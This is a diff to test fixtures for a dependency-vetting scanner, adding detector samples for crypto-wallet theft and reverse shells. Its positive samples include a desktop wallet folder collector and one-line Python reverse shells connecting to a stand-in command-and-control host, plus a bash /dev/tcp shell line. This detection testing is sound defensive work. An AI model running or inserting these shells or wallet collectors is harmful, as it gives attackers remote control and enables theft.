@@ -14,6 +14,7 @@ import base64
 from depvet.files import FileRole, FileView
 from tests.builders import HARMLESS_B64, HARMLESS_PAYLOAD
 from tests.detectors.fixture_types import RuleFixtures
+from tests.detectors.fixtures_behavior import REVERSE_DUP2
 
 C2_HOST = "c2.example.invalid"
 # Shapes of real secrets, made of the word FIXTURE.
@@ -151,6 +152,21 @@ EXODUS = r"""
 import os
 WALLET = os.environ["APPDATA"] + "\\Exodus\\exodus.wallet"
 """
+DESKTOP_WALLETS = """\
+import os
+wallets = (
+    ("Zcash", os.path.join(os.getenv("appdata"), "Zcash")),
+    ("Armory", os.path.join(os.getenv("appdata"), "Armory")),
+)
+"""
+# A fake-data provider's list of currencies: coin names, no folders.
+CURRENCY_LIST = """\
+cryptocurrencies = (
+    ("XMR", "Monero"),
+    ("ZEC", "Zcash"),
+    ("BCN", "Bytecoin"),
+)
+"""
 WALLET_LIBRARY = """\
 class Electrum:
     '''Talk to an Electrum server; keys stay in the user's own wallet.'''
@@ -269,6 +285,34 @@ s.connect(("{C2_HOST}", 4444))
 for fd in (0, 1, 2):
     os.dup2(s.fileno(), fd)
 pty.spawn("/bin/sh")
+"""
+SOCKET_DUP2_COMPREHENSION = (
+    f'import os,pty,socket;s=socket.socket();s.connect(("{C2_HOST}",1338));'
+    '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\n'
+)
+# A subprocess module of its own: the child's pipes put in place of 0, 1 and 2.
+SUBPROCESS_IMPL = """\
+import os
+import socket
+
+
+def _execute_child(args, shell, p2cread, c2pwrite, errwrite):
+    # socket.socketpair() may stand in for the pipes
+    if shell:
+        args = ["/bin/sh", "-c", " ".join(args)]
+    pid = os.fork()
+    if pid == 0:
+        os.dup2(p2cread, 0)
+        os.dup2(c2pwrite, 1)
+        os.dup2(errwrite, 2)
+        os.execvp(args[0], args)
+    return pid
+
+
+def redirect(f, from_fd):
+    temps = [os.pipe() for i in range(3)]
+    os.dup2(f.fileno(), from_fd)
+    return temps
 """
 DAEMONIZE = """\
 import os, socket
@@ -449,8 +493,12 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
         ],
     ),
     "crypto-wallet-theft": RuleFixtures(
-        positive=[python(METAMASK), python(EXODUS)],
-        benign=[python(WALLET_LIBRARY), python('WALLET_FILE = "wallet.dat"\n')],
+        positive=[python(METAMASK), python(EXODUS), python(DESKTOP_WALLETS)],
+        benign=[
+            python(WALLET_LIBRARY),
+            python('WALLET_FILE = "wallet.dat"\n'),
+            python(CURRENCY_LIST),
+        ],
     ),
     "telegram-session-theft": RuleFixtures(
         positive=[python(TDATA)],
@@ -541,9 +589,17 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
         benign=[python('import os\nrc = open(os.path.expanduser("~/.bashrc")).read()\n')],
     ),
     "reverse-shell-pattern": RuleFixtures(
-        positive=[setup_py(DEV_TCP), python(NC_EXEC), python(SOCKET_DUP2), setup_py(PS_TCP_SHELL)],
+        positive=[
+            setup_py(DEV_TCP),
+            python(NC_EXEC),
+            python(SOCKET_DUP2),
+            python(REVERSE_DUP2),
+            python(SOCKET_DUP2_COMPREHENSION),
+            setup_py(PS_TCP_SHELL),
+        ],
         benign=[
             python(DAEMONIZE),
+            python(SUBPROCESS_IMPL),
             other(f"bash -i >& /dev/tcp/{C2_HOST}/4444 0>&1\n", "docs/cheatsheet.txt"),
         ],
     ),
